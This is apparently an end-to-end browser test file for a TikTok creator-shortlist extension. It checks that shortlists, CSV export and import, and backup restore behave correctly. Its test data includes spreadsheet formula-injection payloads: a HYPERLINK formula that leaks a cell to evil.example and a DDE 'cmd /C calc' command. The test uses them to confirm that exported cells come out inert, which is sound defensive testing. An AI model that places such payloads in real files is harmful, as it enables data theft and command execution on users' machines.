/**
 * Shortlists in a real browser: creators read from Castlist's own TikTok sample pages (one whose name carries HTML
 * payloads, tests/fixtures/hostile/hostile-pages.ts) are added from the panel to a list whose name and notes carry
 * spreadsheet-formula payloads; the background freezes their KPIs when they are added; the compare view shows them.
 * The list is then downloaded as CSV (a real download), parsed back with papaparse and compared with the database:
 * every payload comes out as inert, readable text. Backups that are of a wrong version, truncated or foreign are
 * refused by the Data view with the reason, and the database does not change.
 *
 * Not driven here: the context-menu entry and the keyboard command (a browser menu and a browser-level shortcut are
 * out of a page's reach in headless Chromium); tests/unit/shortlist-add-from-page.test.ts drives their listeners.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { HOSTILE_CREATOR, HOSTILE_URLS, hostileSamples } from '../fixtures/hostile/hostile-pages';
import { COOK } from '../fixtures/tiktok/sample-data';
import { rowsOf } from './idb';
import { useExtensionBrowser, waitForSnapshots } from './support';

const session = useExtensionBrowser(hostileSamples);

export const LIST_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Spring")';
export const NOTES = "+cmd|' /C calc'!A0 — great fit, call Monday";
const COOK_URL = `https://www.tiktok.com/@${COOK.handle}`;
const COOK_KEY = `tiktok:${COOK.handle}`;
const HOSTILE_KEY = `tiktok:${HOSTILE_CREATOR.handle}`;

interface StoredEntry {
  creatorKey: string;
  shortlistId: string;
  status: string;
  notes: string;
  kpisAtAdd: { followers: { value: number } | null; tier: string | null } | null;
}

const panelUrl = (query: Record<string, string>) => `chrome-extension://${session.browser.extensionId}/sidepanel.html?${new URLSearchParams(query)}`;

async function openPanel(query: Record<string, string>): Promise<Page> {
  const panel = await session.browser.context.newPage();
  await panel.goto(panelUrl(query));
  return panel;
}

describe('shortlists, end to end', () => {
  test('the creators of two profiles are read and stored', async () => {
    for (const [url, key] of [
      [COOK_URL, COOK_KEY],
      [HOSTILE_URLS.tiktokProfile, HOSTILE_KEY],
    ] as const) {
      const page = await session.browser.context.newPage();
      await page.goto(url);
      // The page stays open until its reading is stored: closing it first may lose the content script's send.
      await waitForSnapshots(session.browser, `creator:${key}`);
      await page.close();
    }
  });

  test('a list is made in the panel and the tab\'s creator added, with the KPIs of the moment frozen', async () => {
    const panel = await openPanel({ view: 'shortlists', url: COOK_URL });
    await panel.getByLabel('Name your first list').fill(LIST_NAME);
    await panel.getByRole('button', { name: 'Create list' }).click();
    await panel.getByRole('button', { name: `Add to “${LIST_NAME}”` }).click();
    await panel.getByText(`✓ On “${LIST_NAME}”`).waitFor();

    // The same panel, following another tab: the hostile creator, added to the same (last-used) list.
    await panel.goto(panelUrl({ view: 'shortlists', url: HOSTILE_URLS.tiktokProfile }));
    await panel.getByRole('button', { name: `Add to “${LIST_NAME}”` }).click();
    await panel.getByText(`✓ On “${LIST_NAME}”`).waitFor();

    const worker = await session.browser.serviceWorker();
    const lists = await rowsOf<{ id: string; name: string }>(worker, 'shortlists');
    expect(lists.map((list) => list.name)).toEqual([LIST_NAME]);
    const entries = await rowsOf<StoredEntry>(worker, 'shortlistEntries');
    expect(entries.map((entry) => entry.creatorKey).sort()).toEqual([COOK_KEY, HOSTILE_KEY].sort());
    const cook = entries.find((entry) => entry.creatorKey === COOK_KEY)!;
    expect(cook).toMatchObject({ shortlistId: lists[0]!.id, status: 'candidate' });
    expect(cook.kpisAtAdd?.followers?.value).toBe(COOK.followers);
    await panel.close();
  });

  test('notes, status and tags are changed in the panel and stored as typed', async () => {
    const panel = await openPanel({ view: 'shortlists' });
    const entry = panel.getByRole('listitem', { name: HOSTILE_CREATOR.name });
    await entry.getByRole('button', { name: 'Details' }).click();
    await entry.getByLabel('Notes').fill(NOTES);
    await entry.getByLabel('Notes').blur();
    await entry.getByLabel(`Status of ${HOSTILE_CREATOR.name}`).selectOption('negotiating');
    await entry.getByLabel('Tags', { exact: true }).fill('@risky');
    await entry.getByLabel('Tags', { exact: true }).press('Enter');
    const worker = await session.browser.serviceWorker();
    await expect
      .poll(async () => (await rowsOf<StoredEntry & { tags: string[] }>(worker, 'shortlistEntries')).find((stored) => stored.creatorKey === HOSTILE_KEY), { timeout: 15_000 })
      .toMatchObject({ notes: NOTES, status: 'negotiating', tags: ['@risky'] });
    // The name's HTML payload is text in the panel.
    expect(await entry.locator('.entry-name').textContent()).toBe(HOSTILE_CREATOR.name);
    await panel.close();
  });

  test('the compare view shows both creators, sortable by followers', async () => {
    const panel = await openPanel({ view: 'compare' });
    await panel.getByText('2 creators', { exact: true }).waitFor({ timeout: 15_000 });
    await panel.getByRole('columnheader', { name: /Followers/ }).getByRole('button').click();
    const names = await panel.locator('.compare-body [role="rowheader"] > :first-child').allTextContents();
    const byFollowers = [
      { name: COOK.name, followers: COOK.followers },
      { name: HOSTILE_CREATOR.name, followers: HOSTILE_CREATOR.followers },
    ].sort((a, b) => b.followers - a.followers);
    expect(names).toEqual(byFollowers.map((creator) => creator.name));
    await panel.close();
  });
});

/** A cell a spreadsheet would run as a formula (lib/csv/formula-escape.ts's triggers, ASCII and full-width). */
const LIVE_FORMULA = /^[\s\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

describe('the shortlist as a CSV file', () => {
  test('downloaded for real, parsed back (papaparse), equal to the database, with every formula payload inert', async () => {
    const panel = await openPanel({ view: 'shortlists' });
    await panel.getByRole('listitem', { name: HOSTILE_CREATOR.name }).waitFor();
    const [download] = await Promise.all([panel.waitForEvent('download'), panel.getByRole('button', { name: 'Download CSV' }).click()]);
    expect(download.suggestedFilename()).toMatch(/^castlist-hyperlink-.*-castlist-\d{4}-\d{2}-\d{2}\.csv$/);
    const text = readFileSync((await download.path())!, 'utf8');
    expect(text.startsWith('\ufeff')).toBe(false);
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);

    const worker = await session.browser.serviceWorker();
    const entries = await rowsOf<StoredEntry & { id: string }>(worker, 'shortlistEntries');
    const creators = await rowsOf<{ key: string; name: string | null; latest: { followers?: { value: number } } }>(worker, 'creators');
    expect(parsed.data.map((row) => row.creator_key).sort()).toEqual(entries.map((entry) => entry.creatorKey).sort());
    for (const row of parsed.data) {
      const entry = entries.find((stored) => stored.creatorKey === row.creator_key)!;
      const creator = creators.find((stored) => stored.key === row.creator_key)!;
      // No cell would run as a formula; the escaped ones read as the text with an apostrophe in front.
      for (const cell of Object.values(row)) expect(cell).not.toMatch(LIVE_FORMULA);
      expect(row.shortlist).toBe(`'${LIST_NAME}`);
      expect(row.name).toBe(creator.name);
      expect(row.notes).toBe(entry.notes.match(LIVE_FORMULA) ? `'${entry.notes}` : entry.notes);
      expect(row.status).toBe(entry.status);
      expect(row.entry_id).toBe(entry.id);
      expect(Number(row.followers)).toBe(creator.latest.followers?.value);
    }
    expect(parsed.data.find((row) => row.creator_key === HOSTILE_KEY)?.notes).toBe(`'${NOTES}`);
    await panel.close();
  });

  test('the downloaded file imported back into the same list changes nothing; a bad row is listed with its reason', async () => {
    const panel = await openPanel({ view: 'shortlists' });
    await panel.getByRole('listitem', { name: HOSTILE_CREATOR.name }).waitFor();
    const [download] = await Promise.all([panel.waitForEvent('download'), panel.getByRole('button', { name: 'Download CSV' }).click()]);
    const text = readFileSync((await download.path())!, 'utf8');
    const worker = await session.browser.serviceWorker();
    const before = await rowsOf(worker, 'shortlistEntries');
    const lines = text.trimEnd().split('\r\n');
    const withBadRow = [...lines, lines[1]!.replace(/^[^,]*,[^,]*/, 'nowhere:nobody,myspace')].join('\r\n');
    await panel.getByLabel(/Import a CSV/).setInputFiles({ name: 'list.csv', mimeType: 'text/csv', buffer: Buffer.from(withBadRow, 'utf8') });
    await panel.getByText(/Skipped rows \(1\)/).waitFor();
    expect(await panel.getByText(/^Row 4: /).textContent()).toMatch(/^Row 4: .+/);
    await panel.getByRole('button', { name: 'Import 2 rows' }).click();
    await panel.getByText(/^Imported list\.csv: 0 added, 0 updated, 2 unchanged/).waitFor({ timeout: 15_000 });
    expect(await rowsOf(worker, 'shortlistEntries')).toEqual(before);
    await panel.close();
  });
});

describe('restoring a backup in the Data view', () => {
  const refusals: Array<[string, (backup: string) => string, RegExp]> = [
    ['a backup of a wrong format version', (backup) => JSON.stringify({ ...JSON.parse(backup), formatVersion: 99 }), /format version 99 is newer/],
    ['a truncated backup', (backup) => backup.slice(0, Math.floor(backup.length / 2)), /cut short/],
    ['a foreign JSON file', () => JSON.stringify({ name: 'not castlist', version: 3, items: [1, 2, 3] }), /not a Castlist backup/],
  ];

  test.each(refusals)('%s is refused with a clear message, and nothing changes', async (_name, spoil, reason) => {
    const panel = await openPanel({ view: 'data' });
    const [download] = await Promise.all([panel.waitForEvent('download'), panel.getByRole('button', { name: 'Download backup' }).click()]);
    const backup = readFileSync((await download.path())!, 'utf8');
    expect(JSON.parse(backup)).toMatchObject({ format: 'castlist-backup', formatVersion: 1 });
    const worker = await session.browser.serviceWorker();
    const before = { entries: await rowsOf(worker, 'shortlistEntries'), lists: await rowsOf(worker, 'shortlists'), creators: await rowsOf(worker, 'creators') };

    await panel.getByLabel(/Restore a backup file/).setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: Buffer.from(spoil(backup), 'utf8') });
    const alert = panel.getByRole('alert');
    await alert.waitFor();
    expect(await alert.textContent()).toMatch(/^backup\.json cannot be restored: .+\. Nothing was changed\.$/);
    expect(await alert.textContent()).toMatch(reason);
    expect(await panel.getByRole('button', { name: 'Replace everything with this backup' }).count()).toBe(0);
    expect({ entries: await rowsOf(worker, 'shortlistEntries'), lists: await rowsOf(worker, 'shortlists'), creators: await rowsOf(worker, 'creators') }).toEqual(before);
    await panel.close();
  });

  test('a good backup is restored after confirming, and the lists come back as they were', async () => {
    const panel = await openPanel({ view: 'data' });
    const [download] = await Promise.all([panel.waitForEvent('download'), panel.getByRole('button', { name: 'Download backup' }).click()]);
    const backup = readFileSync((await download.path())!, 'utf8');
    const worker = await session.browser.serviceWorker();
    const before = await rowsOf(worker, 'shortlistEntries');
    await panel.getByLabel(/Restore a backup file/).setInputFiles({ name: 'good.json', mimeType: 'application/json', buffer: Buffer.from(backup, 'utf8') });
    await panel.getByText(/^good\.json: a Castlist backup of /).waitFor({ timeout: 15_000 }).catch(async (error: unknown) => {
      throw new Error(`the checked backup is not shown; the Data view says: ${await panel.getByRole('region', { name: 'Restore' }).innerText()}`, { cause: error });
    });
    await panel.getByRole('button', { name: 'Replace everything with this backup' }).click();
    await panel.getByText(/^Restored good\.json/).waitFor({ timeout: 15_000 });
    expect(await rowsOf(worker, 'shortlistEntries')).toEqual(before);
    await panel.close();
  });
});
